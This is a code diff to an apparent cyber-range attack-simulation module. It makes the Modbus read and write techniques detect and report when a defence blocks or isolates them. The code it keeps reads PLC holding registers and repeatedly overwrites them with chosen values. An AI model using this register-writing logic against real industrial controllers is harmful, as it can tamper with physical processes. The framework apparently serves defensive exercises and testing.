@@ -15,7 +15,7 @@ import time
 
 from cyberrange.attack.spec import Param, technique
 from cyberrange.attack.techniques.c2 import parse_service, send_segments
-from cyberrange.attack.techniques.common import Result, conclude
+from cyberrange.attack.techniques.common import Blocked, Result, conclude, defence_reason
 from cyberrange.attack.techniques.tcp import Conn
 
 CONNECT_TIMEOUT = 2.5            # seconds to wait for the PLC to accept a connection
@@ -112,17 +112,36 @@ def modbus_read(targets: list[str], params: dict) -> Result:
     res = Result(start=time.time())
     addr, count = int(params["address"]), int(params["count"])
     registers, plcs, reached = {}, [], []
-    for key, cl in _plcs(targets, params, res, reached):
-        try:
-            vals = cl.read_holding(addr, count)
-            registers[key] = {str(addr + i): v for i, v in enumerate(vals)}
-            plcs.append(key)
-        except (ModbusError, OSError, struct.error) as exc:
-            res.log.append(f"{key}: {exc}")
-        finally:
-            res.flows.append(cl.close())
+    try:
+        for key, cl in _plcs(targets, params, res, reached):
+            try:
+                vals = cl.read_holding(addr, count)
+                registers[key] = {str(addr + i): v for i, v in enumerate(vals)}
+                plcs.append(key)
+            except (ModbusError, OSError, struct.error) as exc:
+                res.log.append(f"{key}: {exc}")
+                _cut_if_blocked(res, key, exc)
+            finally:
+                res.flows.append(cl.close())
+    except Blocked as exc:          # the actor's own node stopped sending
+        res.cut(exc.reason)
     res.facts = {"registers": registers, "plcs": plcs}
-    return conclude(res, plcs, reached and not any(reached))
+    return conclude(res, plcs, _unreached(reached))
+
+
+def _unreached(reached: list[bool]) -> str | None:
+    if reached and not any(reached):
+        return "no PLC accepted the connection (a firewall drops or rejects it)"
+    return None
+
+
+def _cut_if_blocked(res: Result, key: str, exc: Exception) -> None:
+    """A connected PLC that stops answering (a timeout, a reset, a send the actor's node
+    refuses) was cut off by the defence; a Modbus exception or a malformed reply was not."""
+    if isinstance(exc, OSError):
+        res.cut(defence_reason(exc, f"Modbus to {key}")
+                or f"{key} stopped answering mid-connection ({exc.__class__.__name__}: "
+                   f"{exc}): a block or an isolation mid-step")
 
 
 def _values(params: dict) -> list[int]:
@@ -149,24 +168,28 @@ def modbus_write(targets: list[str], params: dict) -> Result:
     repeat = max(1, int(params["repeat"]))
     interval = float(params["interval"])
     before, after, written, plcs, reached = {}, {}, {}, [], []
-    for key, cl in _plcs(targets, params, res, reached):
-        try:
-            old = cl.read_holding(addr, len(values))
-            before[key] = {str(addr + i): v for i, v in enumerate(old)}
-            for n in range(repeat):
-                if n:
-                    time.sleep(interval)
-                cl.write(addr, values)
-            new = cl.read_holding(addr, len(values))
-            after[key] = {str(addr + i): v for i, v in enumerate(new)}
-            held = {str(addr + i): v for i, v in enumerate(new) if v == values[i] & 0xFFFF}
-            if held:
-                written[key] = held
-                plcs.append(key)
-        except (ModbusError, OSError, struct.error) as exc:
-            res.log.append(f"{key}: {exc}")
-        finally:
-            res.flows.append(cl.close())
+    try:
+        for key, cl in _plcs(targets, params, res, reached):
+            try:
+                old = cl.read_holding(addr, len(values))
+                before[key] = {str(addr + i): v for i, v in enumerate(old)}
+                for n in range(repeat):
+                    if n:
+                        time.sleep(interval)
+                    cl.write(addr, values)
+                new = cl.read_holding(addr, len(values))
+                after[key] = {str(addr + i): v for i, v in enumerate(new)}
+                held = {str(addr + i): v for i, v in enumerate(new) if v == values[i] & 0xFFFF}
+                if held:
+                    written[key] = held
+                    plcs.append(key)
+            except (ModbusError, OSError, struct.error) as exc:
+                res.log.append(f"{key}: {exc}")
+                _cut_if_blocked(res, key, exc)
+            finally:
+                res.flows.append(cl.close())
+    except Blocked as exc:          # the actor's own node stopped sending
+        res.cut(exc.reason)
     res.log.append(f"wrote {values} at {addr} x{repeat}: before {before}, after {after}")
     res.facts = {"registers": after, "before": before, "written": written, "plcs": plcs}
-    return conclude(res, written, reached and not any(reached))
+    return conclude(res, written, _unreached(reached))
